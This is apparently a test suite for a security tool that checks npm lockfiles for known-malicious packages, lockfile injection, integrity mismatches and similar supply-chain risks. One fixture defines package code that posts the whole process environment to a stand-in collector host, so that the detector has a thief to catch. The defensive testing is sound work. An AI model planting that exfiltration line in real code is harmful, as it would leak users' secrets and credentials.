import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { makeNpmHome } from '../npm-home.ts';
import { startRegistry, tarball } from '../registry.ts';
import type { FakeRegistry } from '../registry.ts';
import { runUnmask } from './run-unmask.ts';
import type { Ran } from './run-unmask.ts';

const ADD = 'exports.add = (a, b) => a + b;\n';
const STEALS = `${ADD}fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n`;

/** A package-lock of these packages; `bad` is only for development. */
function lockfile(packages: Readonly<Record<string, string>>, more: Readonly<Record<string, object>> = {}): string {
  const entries = Object.entries(packages).map(([name, version]) => [`node_modules/${name}`, { version, ...more[name] }]);
  const asked = Object.fromEntries(Object.entries(packages).filter(([name]) => name !== 'bad'));
  return JSON.stringify(
    {
      name: 'app',
      lockfileVersion: 3,
      packages: { '': { name: 'app', dependencies: asked, devDependencies: { bad: '*' } }, ...Object.fromEntries(entries) },
    },
    undefined,
    2,
  );
}

const sha512 = `sha512-${Buffer.alloc(64).toString('base64')}`;

describe('unmask check', () => {
  const home = makeNpmHome();
  let registry: FakeRegistry;
  const run = (...args: string[]): Promise<Ran> => runUnmask(args, { cwd: home.cwd, env: home.env });
  const check = (...args: string[]): Promise<Ran> => run('check', ...args);
  const write = (path: string, content: string): void => {
    mkdirSync(dirname(join(home.cwd, path)), { recursive: true });
    writeFileSync(join(home.cwd, path), content);
  };
  const sync = async (): Promise<void> => {
    const recent = new Date(Date.now() - 3_600_000).toISOString();
    const affected = { package: { ecosystem: 'npm', name: 'bad' }, versions: ['6.6.6'] };
    write('feed/MAL-1.json', JSON.stringify({ id: 'MAL-1', modified: recent, summary: 'Malicious code in bad', affected: [affected] }));
    const { code, err } = await run('intel', 'sync', '--from', 'feed');
    assert.equal(code, 0, err);
  };

  before(async () => {
    registry = await startRegistry({
      good: { versions: { '1.0.0': { files: { 'index.js': ADD } } } },
      gone: { versions: {}, answer: 404 },
      thief: { versions: { '1.0.0': { files: { 'index.js': STEALS } } } },
    });
    write('.npmrc', `registry=${registry.url}\n`);
  });
  after(async () => {
    home.remove();
    await registry.close();
  });

  it('answers UNKNOWN where nothing is known, and never clean', async () => {
    write('package-lock.json', lockfile({ good: '1.0.0' }));
    const { code, out } = await check();
    assert.equal(code, 2);
    assert.match(out, /^UNKNOWN\n1 package: 1 without an answer\./);
    assert.match(out, /no known-bad records on this computer.*unmask intel sync/s);
    const allowed = await check('--on-gap', 'allow');
    assert.equal(allowed.code, 0);
    assert.equal((await run('intel', 'status')).code, 2);
  });

  it('tells what is known, the line it is locked at and what brought it; the rest is allowed with a receipt', async () => {
    await sync();
    write('package-lock.json', lockfile({ good: '1.0.0', bad: '6.6.6' }, { good: { dependencies: { bad: '*' } }, bad: { dev: true } }));
    const { code, out, err } = await check();
    assert.deepEqual([code, err], [1, '']);
    assert.match(out, /^BLOCK\n2 packages: 1 refused\.\n/);
    assert.match(out, /known-malicious: bad 6\.6\.6 is known malware: MAL-1/);
    assert.match(out, /package-lock\.json:20:5/);
    assert.match(out, /Brought by app › good@1\.0\.0 › bad@6\.6\.6 \(for development only\)/);
    assert.match(out, /Matched 2 against 1 record;/);
  });

  it('gives the same as JSON, SARIF and Markdown', async () => {
    const document = JSON.parse((await check('--json')).out);
    const [bad] = document.packages.filter((one: { decision: string }) => one.decision === 'block');
    assert.deepEqual(
      [document.decision, bad.name, bad.version, bad.path, bad.as, bad.at],
      ['block', 'bad', '6.6.6', ['app', 'good@1.0.0', 'bad@6.6.6'], 'dev', { file: 'package-lock.json', line: 20 }],
    );
    const { resolved, matched, vetted, skipped } = document.coverage;
    assert.deepEqual([resolved, matched, vetted, skipped], [2, 2, 0, []]);
    const [result] = JSON.parse((await check('--format', 'sarif')).out).runs[0].results;
    assert.deepEqual([result.ruleId, result.level], ['known-malicious', 'error']);
    assert.deepEqual(result.locations[0].physicalLocation, {
      artifactLocation: { uri: 'package-lock.json' },
      region: { startLine: 20, startColumn: 5 },
    });
    assert.match((await check('--format', 'markdown')).out, /^## Unmask: BLOCK\n[\s\S]*\| BLOCK \| `bad@6\.6\.6` \|/);
  });

  it('allows a clean project with code 0, in every kind of lockfile, and without one', async () => {
    write(
      'pnpm/pnpm-lock.yaml',
      "lockfileVersion: '9.0'\npackages:\n  good@1.0.0:\n    resolution: {integrity: sha512-AA==}\nsnapshots:\n  good@1.0.0: {}\n",
    );
    write('yarn/yarn.lock', '# yarn lockfile v1\n\n\ngood@^1.0.0:\n  version "1.0.0"\n');
    write('bare/node_modules/good/package.json', '{"name":"good","version":"1.0.0"}');
    write(
      'bom.json',
      JSON.stringify({
        bomFormat: 'CycloneDX',
        specVersion: '1.6',
        components: [{ type: 'library', name: 'good', purl: 'pkg:npm/good@1.0.0' }],
      }),
    );
    for (const path of ['pnpm', 'yarn/yarn.lock', 'bare', 'bare/node_modules', 'bom.json']) {
      const { code, out } = await check(path);
      assert.equal(code, 0, `${path}: ${out}`);
      assert.match(out, /^ALLOW\n1 package: nothing is known against any\./, path);
    }
    write('bare/node_modules/bad/package.json', '{"name":"bad","version":"6.6.6"}');
    assert.equal((await check('bare')).code, 1);
  });

  it('holds against the cooldown what the lockfile tells the time of, and says of how much that is so', async () => {
    await sync();
    const day = 86_400_000;
    const [young, old] = [new Date(Date.now() - 3_600_000), new Date(Date.now() - 400 * day)].map(one => one.toISOString());
    const locked = (time: string): string =>
      `lockfileVersion: '9.0'\npackages:\n  good@1.0.0:\n    resolution: {integrity: ${sha512}}\n  fresh@2.0.0(good@1.0.0):\n    resolution: {integrity: ${sha512}}\n${time}snapshots:\n  good@1.0.0: {}\n  fresh@2.0.0(good@1.0.0): {}\n`;
    write('timed/pnpm-lock.yaml', locked(`time:\n  fresh@2.0.0: '${young}'\n  good@1.0.0: '${old}'\n`));
    const timed = await check('timed');
    assert.match(timed.out, /within-cooldown: published .*; new versions wait 24 hours/);
    assert.match(timed.out, /fresh@2\.0\.0/);
    assert.doesNotMatch(timed.out, /good@1\.0\.0$/m);
    assert.match(timed.out, /Held 2 of 2 against the cooldown of 24 hours\./);
    const { coverage } = JSON.parse((await check('timed', '--json')).out);
    assert.deepEqual(coverage.cooldown, { hours: 24, held: 2, of: 2 });

    write('timed/pnpm-lock.yaml', locked(`time:\n  good@1.0.0: 'no time'\n`));
    const untold = await check('timed');
    assert.match(
      untold.out.replace(/\s+/g, ' '),
      /Held 0 of 2 against the cooldown of 24 hours: of the others nothing here tells when .* --since and --vet ask/,
    );
    assert.doesNotMatch(untold.out, /within-cooldown/);
    write('timed/unmask.json', JSON.stringify({ cooldown: { hours: 0 } }));
    const none = await runUnmask(['check'], { cwd: join(home.cwd, 'timed'), env: home.env });
    assert.doesNotMatch(none.out, /cooldown/);
  });

  it('says what is wrong with a file it cannot read, and passes nothing over', async () => {
    write('conflict/package-lock.json', `${lockfile({ good: '1.0.0' })}\n<<<<<<< HEAD\n`);
    const { code, out } = await check('conflict');
    assert.equal(code, 2);
    assert.match(out, /^UNKNOWN\n/);
    assert.match(out, /conflict\/package-lock\.json:\d+ was not read: it holds the marks of a merge conflict/);
    write('cut/yarn.lock', '# yarn lockfile v1\n\n\ngood@^1.0.0:\n  version "1.0.0"\n  dependencies:\n    later "^2.0.0"\n');
    write('space/package.json', '{"workspaces":["packages/*"]}');
    write('space/packages/a/package.json', '{"name":"a","dependencies":{"good":"^1.0.0","later":"^2.0.0"}}');
    write('space/yarn.lock', '# yarn lockfile v1\n\n\ngood@^1.0.0:\n  version "1.0.0"\n');
    const space = await check('space');
    assert.deepEqual([space.code, /package\.json of “a” needs “later”/.test(space.out)], [2, true]);
    const cut = await check('cut');
    assert.equal(cut.code, 2);
    assert.match(cut.out, /cut\/yarn\.lock:4 .*“good@\^1\.0\.0” needs “later”, of which the file holds nothing/);
    write('half/package-lock.json', '{"lockfileVersion":3,"packages":{"node_modules/good":{}}}');
    assert.equal((await check('half')).code, 2);
    const none = await check('feed');
    assert.deepEqual([none.code, none.out], [2, '']);
    assert.match(none.err, /no lockfile and no node_modules/);
  });

  it('tells a lockfile in which name and address disagree', async () => {
    write(
      'injected/package-lock.json',
      lockfile({ good: '1.0.0' }, { good: { resolved: 'https://registry.invalid/evil/-/evil-1.0.0.tgz' } }),
    );
    const { code, out } = await check('injected', '--fail-on', 'warn');
    assert.equal(code, 1);
    assert.match(out, /lockfile-injection: the lockfile says good, and its address is the archive of evil/);
  });

  it('lets a policy waive a finding, with the name of who did', async () => {
    write(
      'policy.json',
      JSON.stringify({
        waivers: [{ package: 'bad@6.6.6', detector: 'known-malicious', reason: 'a trap of ours', owner: 'kim', until: '2999-01-01' }],
      }),
    );
    const { code, out } = await check('--policy', 'policy.json');
    assert.equal(code, 0, out);
    assert.match(out, /^ALLOW\n2 packages: 1 waived\.\n/);
    assert.match(out, /waived {2}known-malicious by kim: a trap of ours/);
    assert.doesNotMatch(out, /What to do next/);
  });

  it('looks only at what changed since a commit, and examines that', async () => {
    const git = (...args: string[]): void =>
      void execFileSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@mail.invalid', ...args], { cwd: join(home.cwd, 'repository') });
    write('repository/package-lock.json', lockfile({ good: '1.0.0' }));
    git('init', '--quiet');
    git('add', '.');
    git('commit', '--quiet', '--message', 'one');
    write('repository/package-lock.json', lockfile({ good: '1.0.0', thief: '1.0.0', gone: '1.0.0' }));
    const { code, out } = await check('repository', '--since', 'HEAD', '--json', '--fail-on', 'warn');
    const { packages, coverage } = JSON.parse(out);
    assert.deepEqual(
      packages.map((one: { name: string }) => one.name),
      ['thief', 'gone'],
    );
    assert.ok(
      packages[0].findings.some((one: { detector: string }) => one.detector === 'sends-environment'),
      out,
    );
    assert.deepEqual([coverage.resolved, coverage.vetted, coverage.skipped.length, coverage.skipped[0].gap], [3, 1, 1, true]);
    assert.equal(code, 1);
    const known = JSON.parse((await check('repository', '--since', 'HEAD', '--only-intel', '--json')).out);
    assert.deepEqual([known.decision, known.coverage.vetted, known.coverage.skipped], ['allow', 0, []]);
    const wrong = await check('repository', '--since', 'no-such-branch');
    assert.deepEqual([wrong.code, wrong.out], [2, '']);
    assert.match(wrong.err, /no commit, branch or tag/);
  });

  it('finds that a registry serves other bytes than the lockfile promises', async () => {
    write('other/package-lock.json', lockfile({ good: '1.0.0' }, { good: { integrity: `sha512-${'A'.repeat(86)}==` } }));
    const { out } = await check('other', '--vet', '--json');
    const { packages } = JSON.parse(out);
    assert.deepEqual(
      packages[0].findings.filter((one: { weight: string }) => one.weight === 'strong').map((one: { detector: string }) => one.detector),
      ['lockfile-conflict'],
    );
  });

  it('asks before it refuses every version of a package that many depend on, and refuses those of any other', async () => {
    const all = (id: string, name: string): string =>
      JSON.stringify({
        id,
        modified: new Date().toISOString(),
        affected: [{ package: { ecosystem: 'npm', name }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }] }] }],
      });
    write('all/MAL-3.json', all('MAL-3', 'chalk'));
    write('all/MAL-4.json', all('MAL-4', 'nobody-knows-this-one'));
    const env = { ...home.env, UNMASK_INTEL: join(home.cwd, 'all-intel') };
    const there = (...args: string[]): Promise<Ran> => runUnmask(args, { cwd: home.cwd, env });
    assert.equal((await there('intel', 'sync', '--from', 'all')).code, 0);
    write('known/package-lock.json', lockfile({ chalk: '5.0.0' }));
    const { code, out } = await there('check', 'known');
    assert.equal(code, 0, out);
    assert.match(out, /^WARN\n[\s\S]*verify before you install/);
    write('unknown/package-lock.json', lockfile({ 'nobody-knows-this-one': '5.0.0' }));
    assert.equal((await there('check', 'unknown')).code, 1);
  });

  it('answers UNKNOWN when records are stale, unless their age is accepted; what they know still refuses', async () => {
    const old = {
      id: 'MAL-2',
      modified: '2020-01-01T00:00:00Z',
      affected: [{ package: { ecosystem: 'npm', name: 'worse' }, versions: ['1.0.0'] }],
    };
    write('old/MAL-2.json', JSON.stringify(old));
    const env = { ...home.env, UNMASK_INTEL: join(home.cwd, 'old-intel') };
    const there = (...args: string[]): Promise<Ran> => runUnmask(args, { cwd: home.cwd, env });
    assert.equal((await there('intel', 'sync', '--from', 'old')).code, 0);
    const stale = await there('check', 'pnpm');
    assert.equal(stale.code, 2);
    assert.match(stale.out, /The newest record is \d+ days old/);
    assert.equal((await there('check', 'pnpm', '--max-age', '36500')).code, 0);
    write('worse/package-lock.json', lockfile({ worse: '1.0.0' }));
    assert.equal((await there('check', 'worse')).code, 1);
  });

  it('teaches: help, explanations, and a policy that knows its findings', async () => {
    assert.match((await check('--help')).out, /unmask check --since origin\/main/);
    assert.match((await run('intel', '--help')).out, /unmask intel sync --from/);
    assert.match((await run('explain', 'lockfile-injection')).out, /Why/);
    const both = await check('--vet', '--only-intel');
    assert.deepEqual([both.code, both.out], [2, '']);
  });
});

describe('unmask intel', () => {
  const home = makeNpmHome();
  const run = (...args: string[]): Promise<Ran> => runUnmask(['intel', ...args], { cwd: home.cwd, env: home.env });
  after(() => home.remove());

  it('takes lists and records, tells what it holds, and forgets', async () => {
    writeFileSync(join(home.cwd, 'team.txt'), 'odd@1.0.0\n--no-audit\n');
    const synced = await run('sync', '--from', 'team.txt');
    assert.equal(synced.code, 0, synced.err);
    assert.match(synced.out, /team: 2 records from team\.txt, 2 new, 0 gone/);
    const status = JSON.parse((await run('status', '--json')).out);
    assert.deepEqual([status.state, status.records, status.sources[0].feed], ['stale', 2, 'team']);
    assert.match((await run('explain', 'odd')).out, /versions +1\.0\.0/);
    assert.match((await run('explain', '--', '--no-audit')).out, /every version/);
    assert.match((await run('explain', 'unheard-of')).out, /^Nothing is known against unheard-of/);
    assert.deepEqual(JSON.parse((await run('verify', '--json')).out), { whole: true, records: 2, problems: [] });
    assert.equal((await run('forget', 'team')).code, 0);
    const { state, records } = JSON.parse((await run('status', '--json')).out);
    assert.deepEqual([state, records], ['missing', 0]);
  });

  it('fetches from an address, as npm would, and keeps no secret of it', async () => {
    const record = {
      id: 'MAL-1',
      modified: new Date().toISOString(),
      affected: [{ package: { ecosystem: 'npm', name: 'far' }, versions: ['1.0.0'] }],
    };
    const archive = tarball({ 'npm/MAL-1.json': record });
    const server = createServer((request, response) => {
      if (request.url?.startsWith('/npm/all.tar.gz')) response.end(archive);
      else response.writeHead(404).end();
    });
    await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening));
    try {
      const address = server.address();
      assert.ok(typeof address === 'object' && address !== null);
      const base = `http://127.0.0.1:${address.port}/npm`;
      const synced = await run('sync', '--from', `mirror=${base}/all.tar.gz?token=secret`);
      assert.equal(synced.code, 0, synced.err);
      assert.match((await run('explain', 'far')).out, /MAL-1/);
      const { out } = await run('status', '--json');
      assert.doesNotMatch(out + synced.out, /secret/);
      const gone = await run('sync', '--from', `${base}/none.zip`);
      assert.deepEqual([gone.code, gone.out], [2, '']);
      assert.match(gone.err, /could not be fetched/);
    } finally {
      server.closeAllConnections();
      await new Promise(closed => server.close(closed));
    }
  });

  it('says what is wrong, and changes nothing', async () => {
    writeFileSync(join(home.cwd, 'empty.txt'), '# nothing\n');
    for (const [args, says] of [
      [['sync', '--from', 'empty.txt'], /no record about an npm package/],
      [['sync', '--from', 'nowhere'], /There is no/],
      [['sync', '--offline'], /the network is off/],
      [[], /What is unmask intel to do/],
      [['explain'], /One record or package/],
      [['forget', 'nobody'], /no source nobody/],
    ] as const) {
      const { code, err, out } = await run(...args);
      assert.deepEqual([code, out], [2, ''], args.join(' '));
      assert.match(err, says);
    }
  });
});
